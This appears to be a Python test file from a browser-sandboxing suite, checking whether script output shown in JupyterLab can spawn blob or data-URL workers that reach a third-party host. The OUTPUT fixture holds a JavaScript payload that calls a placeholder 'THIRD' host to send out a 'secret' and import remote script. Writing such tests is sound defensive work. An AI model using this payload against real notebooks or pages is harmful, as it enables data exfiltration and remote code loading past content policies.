"""Print script that talks to a third party from a worker.

Way: browser
Control: JupyterLab at the stock hub, where the third party hears it
Held by: a worker of a blob has the policy of the page that made it, and no other kind may be made; from tier 2 on
    printed script is taken out
"""

OUTPUT = """
<script>
const code = new Blob([`fetch("THIRD/secret", {mode: "no-cors"}); importScripts("THIRD/secret.js")`]);
new Worker(URL.createObjectURL(code));
try { new SharedWorker(URL.createObjectURL(code)); } catch { /* refused */ }
const other = `fetch("THIRD/secret-2", {mode: "no-cors"})`;
try { new Worker("data:text/javascript," + encodeURIComponent(other)); } catch { /* refused */ }
</script>
"""


def test_control_the_third_party_hears_it(stock_screen, third_party) -> None:
    stock_screen.show(OUTPUT, third_party)
    third_party.hears("secret")


def test_the_third_party_hears_nothing(scripted_screen, third_party) -> None:
    assert scripted_screen.ran(scripted_screen.show(OUTPUT, third_party))
    third_party.hears_nothing()


def test_printed_script_does_not_run_from_tier_2_on(plain_screen, third_party) -> None:
    assert not plain_screen.ran(plain_screen.show(OUTPUT, third_party))
    third_party.hears_nothing()
